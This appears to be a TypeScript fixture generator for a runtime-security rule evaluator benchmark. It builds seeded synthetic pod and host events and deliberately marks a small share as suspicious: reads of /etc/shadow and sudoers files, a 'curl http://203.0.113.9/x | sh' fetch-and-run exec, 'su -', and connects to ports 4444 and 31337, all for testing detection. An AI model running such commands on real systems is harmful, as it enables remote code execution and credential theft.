// A node's worth of enriched events for the evaluator benchmark, shaped like what the enricher publishes: mostly file
// opens, some execs and connects, a few exits (which no rule reads), ~10% from host processes, the rest from pods.
// A small share matches a rule, so alerts are built too. Seeded, so two runs evaluate the same events.
import { pb, type palisade } from '@palisade/common';

export interface EventMixShare {
  file_open: number;
  exec: number;
  net_connect: number;
  exit: number;
}

export const DEFAULT_MIX: EventMixShare = { file_open: 0.8, exec: 0.08, net_connect: 0.07, exit: 0.05 };

const BENIGN_PATHS = [
  '/etc/ld.so.cache', '/lib/x86_64-linux-gnu/libc.so.6', '/lib/x86_64-linux-gnu/libssl.so.3', '/proc/self/status',
  '/proc/self/maps', '/sys/fs/cgroup/cpu.max', '/etc/hosts', '/etc/resolv.conf', '/etc/nsswitch.conf', '/etc/passwd',
  '/app/config/settings.yaml', '/app/static/index.html', '/usr/lib/python3.11/json/__init__.py', '/tmp/upload-7f3a',
  '/var/log/app/access.log', '/dev/null', '/dev/urandom', 'data/cache.db',
];
const CREDENTIAL_PATHS = ['/etc/shadow', '/etc/sudoers', '/etc/sudoers.d/90-admin'];
const PORTS = [443, 5432, 6379, 53, 80, 8080, 9092, 27017];
const DENIED_PORTS = [4444, 31337];

/** mulberry32: tiny, fast, good enough to pick from lists. */
function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

interface Workload {
  pod: palisade.v1.IPod;
  cgroupId: number;
  cgroupPath: string;
  comm: string;
  binary: string;
}

function workloads(count: number, node: string, rand: () => number): Workload[] {
  const apps = [
    { name: 'web', comm: 'python3', binary: '/usr/bin/python3', image: 'registry.example.com/shop/web:1.4.2' },
    { name: 'api', comm: 'node', binary: '/usr/local/bin/node', image: 'registry.example.com/shop/api:2.0.1' },
    { name: 'worker', comm: 'java', binary: '/opt/java/bin/java', image: 'registry.example.com/shop/worker:0.9.0' },
    { name: 'cache', comm: 'redis-server', binary: '/usr/local/bin/redis-server', image: 'redis:7.2' },
    { name: 'db', comm: 'postgres', binary: '/usr/lib/postgresql/16/bin/postgres', image: 'postgres:16' },
  ];
  const hex = (n: number): string => Array.from({ length: n }, () => Math.floor(rand() * 16).toString(16)).join('');
  return Array.from({ length: count }, (_, i) => {
    const app = apps[i % apps.length]!;
    const uid = `${hex(8)}-${hex(4)}-4${hex(3)}-8${hex(3)}-${hex(12)}`;
    const containerId = hex(64);
    const namespace = ['shop', 'payments', 'search', 'default'][i % 4]!;
    return {
      comm: app.comm,
      binary: app.binary,
      cgroupId: 10_000 + i,
      cgroupPath: `/kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod${uid.replace(/-/g, '_')}.slice/` +
        `cri-containerd-${containerId}.scope`,
      pod: {
        namespace, name: `${app.name}-${hex(9)}-${hex(5)}`, uid, labels: { app: app.name, tier: 'backend' },
        owner: { kind: 'Deployment', name: app.name }, containerId, containerName: app.name, image: app.image, node,
        runtime: 'containerd',
      },
    };
  });
}

export interface EventMixOptions {
  count: number;
  pods?: number;
  share?: EventMixShare;
  /** Fraction of events built to match a rule (credential file, shell from an app, denied port). */
  suspicious?: number;
  /** Fraction of events from host processes (status HOST, no pod). */
  host?: number;
  seed?: number;
  /** Kernel time of the first event; the rest follow 1 µs apart. Default: now. */
  startUnixNano?: number;
}

export function buildEventMix(opts: EventMixOptions): palisade.v1.IEnrichedEvent[] {
  const rand = rng(opts.seed ?? 1);
  const share = opts.share ?? DEFAULT_MIX;
  const suspicious = opts.suspicious ?? 0.005;
  const hostShare = opts.host ?? 0.1;
  const node = 'bench-node';
  const pods = workloads(opts.pods ?? 40, node, rand);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)]!;
  const t0 = opts.startUnixNano ?? Date.now() * 1e6;
  const out: palisade.v1.IEnrichedEvent[] = [];
  for (let i = 0; i < opts.count; i++) {
    const onHost = rand() < hostShare;
    const w = pick(pods);
    const bad = !onHost && rand() < suspicious;
    const pid = 1000 + Math.floor(rand() * 30_000);
    const proc: palisade.v1.IProcess = {
      pid, tid: pid, ppid: onHost ? 1 : 900, uid: onHost ? 0 : 1000, euid: onHost ? 0 : 1000, gid: onHost ? 0 : 1000,
      comm: onHost ? 'containerd' : w.comm, parentComm: onHost ? 'systemd' : 'containerd-shim',
      binary: onHost ? '/usr/bin/containerd' : w.binary,
      cgroupId: onHost ? 1 : w.cgroupId, cgroupPath: onHost ? '/system.slice/containerd.service' : w.cgroupPath,
    };
    const event: palisade.v1.IRawEvent = { timeUnixNano: t0 + i * 1000, cpu: i % 2, process: proc };
    const r = rand();
    if (r < share.file_open) {
      event.kind = pb.EventKind.EVENT_KIND_FILE_OPEN;
      event.fileOpen = { path: bad ? pick(CREDENTIAL_PATHS) : pick(BENIGN_PATHS), flags: 0o2000000, result: 3, syscall: 'openat' };
    } else if (r < share.file_open + share.exec) {
      event.kind = pb.EventKind.EVENT_KIND_PROCESS_EXEC;
      if (bad && rand() < 0.5) {
        proc.comm = 'sh'; proc.parentComm = w.comm; proc.binary = '/bin/sh';
        event.exec = { filename: '/bin/sh', argv: ['sh', '-c', 'curl http://203.0.113.9/x | sh'], cgroupName: '' };
      } else if (bad) {
        proc.comm = 'su'; proc.parentComm = 'sh'; proc.binary = '/bin/su'; proc.euid = 0;
        event.exec = { filename: '/bin/su', argv: ['su', '-'], cgroupName: '' };
      } else {
        proc.parentComm = onHost ? 'systemd' : 'runc:[2:INIT]';
        event.exec = { filename: proc.binary, argv: [proc.comm ?? '', '--config', '/app/config/settings.yaml'], cgroupName: '' };
      }
    } else if (r < share.file_open + share.exec + share.net_connect) {
      event.kind = pb.EventKind.EVENT_KIND_NET_CONNECT;
      event.netConnect = {
        family: pb.AddressFamily.ADDRESS_FAMILY_INET, daddr: `10.96.${Math.floor(rand() * 256)}.${Math.floor(rand() * 256)}`,
        dport: bad ? pick(DENIED_PORTS) : pick(PORTS), result: -115, protocol: 'tcp',
      };
    } else {
      event.kind = pb.EventKind.EVENT_KIND_PROCESS_EXIT;
      event.exit = { exitCode: 0, signal: 0 };
    }
    out.push(onHost
      ? { event, status: pb.EnrichmentStatus.ENRICHMENT_STATUS_HOST, node }
      : { event, status: pb.EnrichmentStatus.ENRICHMENT_STATUS_ENRICHED, pod: w.pod, node });
  }
  return out;
}
